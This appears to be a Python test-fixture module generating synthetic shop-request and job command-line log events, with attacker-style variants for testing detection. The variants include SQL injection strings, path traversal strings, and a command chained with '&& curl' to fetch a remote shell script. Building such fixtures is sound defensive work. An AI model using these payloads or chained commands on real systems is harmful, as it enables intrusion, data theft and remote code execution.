"""Made-up texts for tests of text inside values: requests to a shop and command lines of jobs, and the same altered in
ways of an attacker, each in a family."""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

Event = dict[str, Any]
Pairs = list[tuple[str, str]]

_WORDS = ("amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "heron", "inlet", "juniper", "kelp", "lumen")
_START = 1_790_000_000_000


def _word(rng: random.Random, least: int, most: int) -> str:
    return "".join(rng.choice("abcdefghijklmnoprstuvw") for _ in range(rng.randint(least, most)))


def _digits(rng: random.Random, least: int, most: int) -> str:
    return str(rng.randrange(10 ** (least - 1), 10 ** rng.randint(least, most)))


def request(rng: random.Random) -> tuple[str, Pairs]:
    """The path and the parameters of an ordinary request."""
    kind = rng.random()
    if kind < 0.4:
        page = str(rng.randint(1, 40))
        return "/shop/list", [("group", rng.choice(_WORDS)), ("page", page), ("sort", rng.choice(("asc", "desc")))]
    if kind < 0.7:
        note = quote(" ".join(rng.choice(_WORDS) for _ in range(rng.randint(0, 3))))
        return f"/shop/item/{_digits(rng, 1, 4)}/cart", [("amount", str(rng.randint(1, 20))), ("note", note)]
    mail = f"{_word(rng, 3, 9)}@{_word(rng, 4, 8)}.{rng.choice(('org', 'net', 'example'))}"
    return "/shop/register", [
        ("login", _word(rng, 4, 9) + str(rng.randrange(100))),
        ("mail", mail),
        ("phone", _digits(rng, 9, 9)),
        ("postcode", _digits(rng, 5, 5)),
        ("city", _word(rng, 5, 12).capitalize()),
    ]


def _replaced(make: Callable[[random.Random, str], str]) -> Callable[[random.Random, Pairs], Pairs]:
    def alter(rng: random.Random, pairs: Pairs) -> Pairs:
        at = rng.randrange(len(pairs))
        name, value = pairs[at]
        return [*pairs[:at], (name, make(rng, value)), *pairs[at + 1 :]]

    return alter


def _swapped(rng: random.Random, pairs: Pairs) -> Pairs:
    a, b = rng.sample(range(len(pairs)), 2)
    (x, v), (y, w) = pairs[a], pairs[b]
    altered = list(pairs)
    altered[a], altered[b] = (x, w), (y, v)
    return altered


_SQL = ("{}' OR 1=1--", "{};DROP TABLE orders", "{}%27%20UNION%20SELECT%20pw%20FROM%20users", '{}" AND SLEEP(5)#')
_TRAVERSAL = ("../../../../etc/hosts", "..%2f..%2f..%2fwindows%2fwin.ini", "....//....//boot", "%252e%252e%252fetc")

REQUESTS: dict[str, Callable[[random.Random, Pairs], Pairs]] = {
    "sql": _replaced(lambda rng, value: rng.choice(_SQL).format(value)),
    "traversal": _replaced(lambda rng, value: rng.choice(_TRAVERSAL)),
    "padding": _replaced(lambda rng, value: (value or "x") * rng.randint(60, 200)),
    "binary": _replaced(lambda rng, value: "".join(f"%{rng.randrange(128, 256):02x}" for _ in range(24))),
    "swapped": _swapped,
    "doubled": lambda rng, pairs: [*pairs, rng.choice(pairs)],
    "missing": lambda rng, pairs: [pair for pair in pairs if pair != pairs[0]],
    "unknown": lambda rng, pairs: [*pairs, (_word(rng, 3, 8), "1")],
}
"""Families of altered requests."""


def command(rng: random.Random) -> list[str]:
    """An ordinary command line."""
    if rng.random() < 0.5:
        return ["backup", "/full", f"--level={rng.randint(1, 9)}", "--target", f"D:\\jobs\\{rng.choice(_WORDS)}"]
    return ["sync", "-q", "-p", str(rng.choice((22, 873, 8730))), f"host{rng.randint(1, 30)}.lan"]


COMMANDS: dict[str, Callable[[random.Random, list[str]], list[str]]] = {
    "option": lambda rng, words: [*words[:1], f"--{_word(rng, 4, 9)}", *words[1:]],
    "encoded": lambda rng, words: [
        *words[:-1],
        "".join(rng.choice("ABCDEFGHabcdefgh0123456789+/") for _ in range(80)),
    ],
    "chained": lambda rng, words: [*words, "&&", "curl", "http://203.0.113.9/a.sh"],
}
"""Families of altered command lines."""


def request_event(number: int, path: str, pairs: Pairs) -> Event:
    query = "&".join(f"{name}={value}" for name, value in pairs)
    return {
        "time": _START + number * 1000,
        "class_uid": 4002,
        "category_uid": 4,
        "activity_id": 3,
        "type_uid": 400203,
        "severity_id": 1,
        "metadata": {"version": "1.5.0", "uid": f"r{number}"},
        "http_request": {
            "http_method": "GET",
            "url": {"hostname": "shop.example", "path": path, "query_string": query},
        },
        "device": {"hostname": "web-1"},
    }


def command_event(number: int, words: list[str]) -> Event:
    return {
        "time": _START + number * 1000,
        "class_uid": 1007,
        "category_uid": 1,
        "activity_id": 1,
        "type_uid": 100701,
        "severity_id": 1,
        "metadata": {"version": "1.5.0", "uid": f"c{number}"},
        "process": {"name": words[0], "cmd_line": " ".join(words)},
        "device": {"hostname": "job-1"},
    }


def requests(n: int, seed: int, family: str = "") -> list[Event]:
    """n requests; altered where a family is named."""
    rng, events = random.Random(seed), []
    for number in range(n):
        path, pairs = request(rng)
        events.append(request_event(number, path, REQUESTS[family](rng, pairs) if family else pairs))
    return events


def commands(n: int, seed: int, family: str = "") -> list[Event]:
    rng, events = random.Random(seed), []
    for number in range(n):
        words = command(rng)
        events.append(command_event(number, COMMANDS[family](rng, words) if family else words))
    return events
